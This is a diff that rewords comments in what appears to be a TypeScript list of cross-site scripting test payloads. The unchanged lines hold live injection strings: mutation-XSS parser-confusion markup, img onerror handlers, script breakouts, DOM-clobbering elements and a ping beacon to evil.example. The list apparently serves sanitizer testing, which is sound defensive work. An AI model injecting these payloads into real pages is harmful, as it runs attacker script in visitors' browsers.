@@ -25,7 +25,7 @@ const scripts = [
   `＜script＞${run}＜/script＞`,
 ]
 
-// Where a text may stand: the end of each, and code after it.
+// The end of each context that a text may be in, followed by code.
 const closings = [
   ...[
     '</script>',
@@ -184,7 +184,7 @@ const elements = [
   `<a href="#" ping="https://evil.example/" download>a</a>`,
 ]
 
-// What one parser reads as text and the next as an element.
+// HTML that one parser reads as text and another as an element.
 const mutations = [
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
@@ -209,7 +209,7 @@ const mutations = [
   `<td><tr><table><p><img src=x onerror=${run}>`,
 ]
 
-// Names that the page's own scripts look for, and texts that templates and formats read as more than text.
+// Names that the page's own scripts look for, and texts with a special meaning in templates and formats.
 const others = [
   '<p id="page-data">{"page":{}}</p>',
   '<a id=dataLayer></a>',
@@ -229,7 +229,7 @@ const others = [
   '"}]}</script><script>alert(1)</script>',
 ]
 
-/** What attackers put into texts, in hope that a page runs it: each calls `alert(1)` or sends the visitor elsewhere. */
+/** Texts with which attackers try to run code in a page: each calls `alert(1)` or sends the visitor to another site. */
 export const payloads: readonly string[] = [
   ...new Set([
     ...scripts,
